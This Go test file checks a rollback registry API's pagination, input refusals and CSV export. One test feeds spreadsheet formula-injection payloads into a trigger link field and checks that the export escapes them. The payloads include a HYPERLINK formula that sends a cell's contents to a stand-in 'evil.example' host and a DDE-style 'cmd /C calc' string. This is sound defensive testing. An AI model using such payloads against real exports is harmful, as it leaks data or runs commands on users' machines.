package server_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/backout/backout/internal/rollback"
	"github.com/backout/backout/internal/store"
)

var t0 = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

// fillRegistry stores n rollbacks straight into the store: services api
// and web in turn, states and triggers in cycles, two per second.
func fillRegistry(t *testing.T, st store.Store, n int) []*rollback.Record {
	t.Helper()
	states := []rollback.State{rollback.StateSucceeded, rollback.StateFailed, rollback.StateAborted, rollback.StateProposed}
	triggers := []string{"alert", "person", "watcher"}
	var out []*rollback.Record
	for i := range n {
		r := &rollback.Record{ID: fmt.Sprintf("RB-%d", i+1), State: states[i%4], Trigger: rollback.Trigger{Kind: triggers[i%3]},
			CreatedAt: t0.Add(time.Duration(i/2) * time.Second),
			Services:  []rollback.ServiceChange{{Service: []string{"api", "web"}[i%2]}}}
		if err := st.CreateRollback(t.Context(), r); err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// pageThrough follows next_cursor from path and returns the ids in order
// and how many pages it took.
func pageThrough(t *testing.T, call func(path string) (int, string), path string) ([]string, int) {
	t.Helper()
	var ids []string
	next := ""
	for pages := 1; ; pages++ {
		p := path
		if next != "" {
			p += "&cursor=" + url.QueryEscape(next)
		}
		code, body := call(p)
		if code != http.StatusOK {
			t.Fatalf("%s: %d %s", p, code, body)
		}
		var got struct {
			Rollbacks  []struct{ ID string }
			NextCursor string `json:"next_cursor"`
		}
		if err := json.Unmarshal([]byte(body), &got); err != nil {
			t.Fatal(err)
		}
		for _, r := range got.Rollbacks {
			ids = append(ids, r.ID)
		}
		if got.NextCursor == "" {
			return ids, pages
		}
		next = got.NextCursor
	}
}

// TestRegistryPages: the registry answers in pages that, followed by
// next_cursor, list every match once, newest first, for each filter.
func TestRegistryPages(t *testing.T) {
	srv, _, st := newAPIStore(t)
	recs := fillRegistry(t, st, 250)
	get := func(path string) (int, string) { return call(t, srv, "GET", path, token, "") }
	// Newest first, ties (two per second) by id descending, as bytes.
	slices.SortFunc(recs, func(a, b *rollback.Record) int {
		return strings.Compare(store.PositionOf(b).SortKey(), store.PositionOf(a).SortKey())
	})
	want := func(match func(*rollback.Record) bool) []string {
		var ids []string
		for _, r := range recs {
			if match(r) {
				ids = append(ids, r.ID)
			}
		}
		return ids
	}
	since := t0.Add(30 * time.Second)
	tests := []struct {
		name, path string
		pages      int
		match      func(*rollback.Record) bool
	}{
		{"default page is 100", "/api/v1/rollbacks?format=json", 3, func(*rollback.Record) bool { return true }},
		{"the largest page", "/api/v1/rollbacks?limit=1000", 1, func(*rollback.Record) bool { return true }},
		{"service", "/api/v1/rollbacks?service=web&limit=40", 4, func(r *rollback.Record) bool { return r.Services[0].Service == "web" }},
		{"outcome", "/api/v1/rollbacks?outcome=failed&limit=7", 9, func(r *rollback.Record) bool { return r.State == rollback.StateFailed }},
		{"outcomes", "/api/v1/rollbacks?outcome=failed,aborted&limit=50", 3, func(r *rollback.Record) bool {
			return r.State == rollback.StateFailed || r.State == rollback.StateAborted
		}},
		{"trigger and service", "/api/v1/rollbacks?trigger=alert&service=api&limit=10", 5, func(r *rollback.Record) bool {
			return r.Trigger.Kind == "alert" && r.Services[0].Service == "api"
		}},
		{"time", "/api/v1/rollbacks?since=" + since.Format(time.RFC3339) + "&limit=25", 8, func(r *rollback.Record) bool { return !r.CreatedAt.Before(since) }},
	}
	for _, tc := range tests {
		ids, pages := pageThrough(t, get, tc.path)
		if w := want(tc.match); !slices.Equal(ids, w) || pages != tc.pages {
			t.Errorf("%s: %d pages of %d ids; want %d pages of %d ids in order", tc.name, pages, len(ids), tc.pages, len(w))
		}
	}
}

// TestRegistryRefusals: limits and cursors outside what the API takes are
// a 400 that says what to do.
func TestRegistryRefusals(t *testing.T) {
	srv, _, _ := newAPIStore(t)
	other := "eDF8MDAwMDAwMDAwMDAwMDAwMDpSQi0x" // base64 of another tag
	tests := []struct{ name, path, want string }{
		{"limit above the maximum", "/api/v1/rollbacks?limit=1001", "limit: 1001 is more than 1000; ask for pages of at most 1000 and follow next_cursor"},
		{"limit zero", "/api/v1/rollbacks?limit=0", "limit: want a whole number from 1 to 1000"},
		{"limit not a number", "/api/v1/rollbacks?limit=ten", "limit: want a whole number"},
		{"cursor not base64", "/api/v1/rollbacks?cursor=%25%25", "cursor: not base64url"},
		{"cursor of something else", "/api/v1/rollbacks?cursor=" + other, "cursor: not a cursor of this API"},
		{"deploys limit", "/api/v1/deploys?service=api&limit=5000", "limit: 5000 is more than 1000"},
		{"deploys cursor", "/api/v1/deploys?service=api&cursor=abc", "cursor:"},
		{"format", "/api/v1/rollbacks?format=xml", "format: want json or csv"},
	}
	for _, tc := range tests {
		code, body := call(t, srv, "GET", tc.path, token, "")
		if code != http.StatusBadRequest || !strings.Contains(body, tc.want) {
			t.Errorf("%s: %d %s; want 400 containing %q", tc.name, code, body, tc.want)
		}
	}
}

// TestRegistryCSV: a CSV export streams the whole range across store pages
// (or limit rows), asked for by format or by Accept.
func TestRegistryCSV(t *testing.T) {
	srv, _, st := newAPIStore(t)
	fillRegistry(t, st, 1203)
	// The first JSON page of the same query ends at RB-204.
	after := nextCursor(t, func(path string) (int, string) { return call(t, srv, "GET", path, token, "") }, "/api/v1/rollbacks?limit=1000")
	tests := []struct {
		name, path, accept string
		rows               int
		first              string
	}{
		{"everything", "/api/v1/rollbacks?format=csv", "", 1203, "RB-1203"},
		{"by Accept", "/api/v1/rollbacks?service=api", "text/csv", 602, "RB-1203"},
		{"a limit", "/api/v1/rollbacks?format=csv&limit=10", "", 10, "RB-1203"},
		{"after a cursor", "/api/v1/rollbacks?format=csv&cursor=" + after, "", 203, "RB-203"},
	}
	for _, tc := range tests {
		req, _ := http.NewRequestWithContext(t.Context(), "GET", srv.URL+tc.path, nil)
		req.Header.Set("Authorization", "Bearer "+token)
		if tc.accept != "" {
			req.Header.Set("Accept", tc.accept)
		}
		resp, err := srv.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(resp.Body).ReadAll()
		resp.Body.Close()
		if err != nil || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
			t.Fatalf("%s: %v, content type %q", tc.name, err, resp.Header.Get("Content-Type"))
		}
		if len(rows)-1 != tc.rows || rows[0][0] != "id" || rows[1][0] != tc.first {
			t.Errorf("%s: %d rows starting %v; want %d starting %s", tc.name, len(rows)-1, rows[1][0], tc.rows, tc.first)
		}
	}
}

// TestRegistryCSVHoldsNoFormulas: a CSV export opened in a spreadsheet
// runs no formula an alert sent in (a trigger link "=HYPERLINK(…)"); the
// cell reads as the text it was, behind an apostrophe.
func TestRegistryCSVHoldsNoFormulas(t *testing.T) {
	tests := []struct {
		link, want string
	}{
		{`=HYPERLINK("https://evil.example/?"&A1,"details")`, `'=HYPERLINK("https://evil.example/?"&A1,"details")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		// A spreadsheet whose separator is ; splits inside the cell.
		{`https://pd.example/i;=HYPERLINK("https://evil.example")`, `https://pd.example/i;'=HYPERLINK("https://evil.example")`},
		{"-3", "-3"},
		{"https://pd.example/incidents/Q1", "https://pd.example/incidents/Q1"},
	}
	for _, tc := range tests {
		srv, _, st := newAPIStore(t)
		r := &rollback.Record{ID: "RB-1", State: rollback.StateSucceeded, CreatedAt: t0,
			Trigger: rollback.Trigger{Kind: "alert", URL: tc.link}, Services: []rollback.ServiceChange{{Service: "api"}}}
		if err := st.CreateRollback(t.Context(), r); err != nil {
			t.Fatal(err)
		}
		code, body := call(t, srv, "GET", "/api/v1/rollbacks?format=csv", token, "")
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if code != http.StatusOK || err != nil || len(rows) != 2 {
			t.Fatalf("%d %v %q", code, err, body)
		}
		link := rows[1][slices.Index(rows[0], "link")]
		if link != tc.want {
			t.Errorf("link cell %q, want %q", link, tc.want)
		}
	}
}

// TestDeployPages: a service's deploys page by page.
func TestDeployPages(t *testing.T) {
	srv, _, st := newAPIStore(t)
	for i := range 150 {
		if err := st.AddDeploy(t.Context(), &rollback.Deploy{Service: "api", Version: fmt.Sprint("v", i), At: t0.Add(time.Duration(i) * time.Minute)}); err != nil {
			t.Fatal(err)
		}
	}
	var versions []string
	next := ""
	for pages := 1; ; pages++ {
		path := "/api/v1/deploys?service=api"
		if next != "" {
			path += "&cursor=" + next
		}
		code, body := call(t, srv, "GET", path, token, "")
		var got struct {
			Deploys    []struct{ Version string }
			NextCursor string `json:"next_cursor"`
		}
		if err := json.Unmarshal([]byte(body), &got); err != nil || code != http.StatusOK {
			t.Fatalf("%s: %d %s", path, code, body)
		}
		for _, d := range got.Deploys {
			versions = append(versions, d.Version)
		}
		if next = got.NextCursor; next == "" {
			if pages != 2 || len(versions) != 150 || versions[0] != "v149" || versions[149] != "v0" {
				t.Fatalf("%d pages, %d deploys from %s to %s; want 2 pages of 150 from v149 to v0", pages, len(versions), versions[0], versions[len(versions)-1])
			}
			return
		}
	}
}
